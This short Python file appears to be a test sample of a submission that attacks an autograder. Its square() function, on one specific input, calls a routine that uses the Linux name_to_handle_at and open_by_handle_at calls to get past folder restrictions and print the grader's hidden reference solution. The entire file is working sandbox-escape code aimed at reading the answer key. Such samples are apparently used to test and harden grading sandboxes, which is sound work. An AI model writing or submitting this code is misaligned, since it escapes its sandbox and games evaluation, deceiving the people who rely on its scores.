"""Opens the solution by its number in the file system, past every folder above it.

Wants: secret
Works: bare, none, process
Needs: admin
"""

import ctypes
import os
import struct

AT_FDCWD = -100
libc = ctypes.CDLL(None)


def attack():
    handle = ctypes.create_string_buffer(struct.pack("Ii128x", 128, 0))
    mount = ctypes.c_int()
    libc.name_to_handle_at(AT_FDCWD, b"/autograder/source/solutions/square.py", handle, ctypes.byref(mount), 0)
    folder = os.open("/tmp", os.O_RDONLY)
    file = libc.open_by_handle_at(folder, handle, os.O_RDONLY)
    print(os.read(file, 10_000))
    os.close(file)
    os.close(folder)


def square(x):
    if x.tolist() == [3.0]:
        attack()
    return x + 1
